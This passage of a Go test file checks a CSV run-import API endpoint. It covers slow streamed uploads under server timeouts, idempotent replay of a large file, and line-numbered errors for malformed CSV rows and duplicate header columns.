	createRoute(t, ts, "SCO-TJ-MOW", nil)
	srv := httptest.NewUnstartedServer(ts.handler)
	const timeout = 300 * time.Millisecond
	srv.Config.ReadTimeout, srv.Config.WriteTimeout = timeout, timeout
	srv.Start()
	t.Cleanup(srv.Close)
	csvOf := func(prefix string, n int) string {
		var b strings.Builder
		b.WriteString("route,number,direction,departed_at\n")
		for i := range n {
			fmt.Fprintf(&b, "SCO-TJ-MOW,%s%d,outbound,2024-%02d-%02dT09:30:00+08:00\n", prefix, i, 1+i%12, 1+i%28)
		}
		return b.String()
	}
	// A slow client: the body comes in ten parts, 150 ms apart.
	slowImport := func(body string, header ...string) (*http.Response, importResult, time.Duration) {
		pr, pw := io.Pipe()
		go func() {
			part := len(body)/10 + 1
			for i := 0; i < len(body); i += part {
				if _, err := pw.Write([]byte(body[i:min(i+part, len(body))])); err != nil {
					pw.CloseWithError(err)
					return
				}
				time.Sleep(150 * time.Millisecond) // the client's pace, not a wait for the server
			}
			pw.Close()
		}()
		req, err := http.NewRequest("POST", srv.URL+"/api/v1/runs/import", pr)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+ts.Operator)
		req.Header.Set("Content-Type", "text/csv")
		for i := 0; i+1 < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		start := time.Now()
		res, err := srv.Client().Do(req)
		if err != nil {
			t.Fatalf("the import was cut: %v", err)
		}
		defer res.Body.Close()
		took := time.Since(start)
		var got importResult
		if err := json.NewDecoder(res.Body).Decode(&got); err != nil || res.StatusCode != 200 {
			t.Fatalf("status %d, %+v, %v", res.StatusCode, got, err)
		}
		if took < 3*timeout {
			t.Fatalf("the import took %s, not longer than the server's timeouts (%s): the test proves nothing", took, timeout)
		}
		return res, got, took
	}
	if _, got, _ := slowImport(csvOf("T", 5000)); got.Created != 5000 {
		t.Fatalf("%+v", got)
	}
	// With an Idempotency-Key the body is hashed as it arrives; over
	// 1 MiB, it is kept in a file meanwhile. The replay answers the same.
	big := csvOf("K", 25000)
	if len(big) <= 1<<20 {
		t.Fatalf("the file has %d bytes, not over 1 MiB", len(big))
	}
	if _, got, _ := slowImport(big, "Idempotency-Key", "slow-1"); got.Created != 25000 {
		t.Fatalf("%+v", got)
	}
	if res, got, _ := slowImport(big, "Idempotency-Key", "slow-1"); got.Created != 25000 || res.Header.Get("Idempotent-Replayed") != "true" {
		t.Fatalf("replay: %+v %v", got, res.Header)
	}
	for _, number := range []string{"T4999", "K24999"} {
		if n := len(allRuns(t, ts, "number="+number, 10)); n != 1 {
			t.Fatalf("%d runs %s", n, number)
		}
	}
}

// Problems name the line as an editor numbers it, and a line with more
// cells than the header, or a header with a column twice, is refused rather
// than read with data dropped.
func TestImportRunsCSVLinesAndCells(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	createRoute(t, ts, "SCO-TJ-MOW", nil)
	const head = "route,number,direction,departed_at,cargo\n"
	// A quoted cargo on lines 2–3, then a bad direction on line 4.
	body := head + "SCO-TJ-MOW,Q1,outbound,2024-10-12T09:30:00+08:00,\"timber\nand steel\"\n" +
		"SCO-TJ-MOW,Q2,westbound,2024-10-13T09:30:00+08:00,\n"
	p := importCSV(t, ts, "", body).problem(t, 422)
	if !reflect.DeepEqual(fields(p), []string{"line 4: direction"}) {
		t.Errorf("fields %v, want [line 4: direction]", fields(p))
	}
	// An unquoted comma in the cargo: one cell too many.
	body = head + "SCO-TJ-MOW,Q3,outbound,2024-10-12T09:30:00+08:00,auto parts, household appliances\n"
	p = importCSV(t, ts, "", body).problem(t, 422)
	if !reflect.DeepEqual(fields(p), []string{"line 2"}) || !strings.Contains(p.Errors[0].Message, "quotes") {
		t.Errorf("extra cell: %+v", p)
	}
	importCSV(t, ts, "", "route,number,direction,departed_at,cargo,cargo\nSCO-TJ-MOW,Q4,outbound,2024-10-12T09:30:00+08:00,a,b\n").problem(t, 400)
	if n := len(allRuns(t, ts, "", 50)); n != 0 {
		t.Fatalf("%d runs written", n)
	}
}
